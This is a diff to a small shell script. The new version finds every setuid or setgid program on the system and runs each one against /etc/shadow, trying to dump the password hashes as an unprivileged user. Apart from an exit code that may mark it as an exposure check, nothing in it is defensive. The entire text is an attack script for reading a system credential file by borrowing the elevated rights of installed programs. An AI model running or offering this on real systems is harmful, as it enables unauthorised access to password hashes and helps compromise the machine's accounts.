@@ -1,8 +1,11 @@
 #!/bin/sh
-# Reads the password hashes as an ordinary user, through a program that starts as its owner: root.
+# As an ordinary user, starts each program that runs as its owner or group, and asks it for the password hashes.
 echo "running as user $(id -u)"
-if reader /etc/shadow; then
-  echo "the hashes are out"
-  exit 0
-fi
+for program in $(find / -xdev -type f -perm /6000 2>/dev/null); do
+  if "$program" /etc/shadow; then
+    echo "$program gave the hashes out"
+    exit 0
+  fi
+done
+echo "no program here lends its rights"
 exit 1
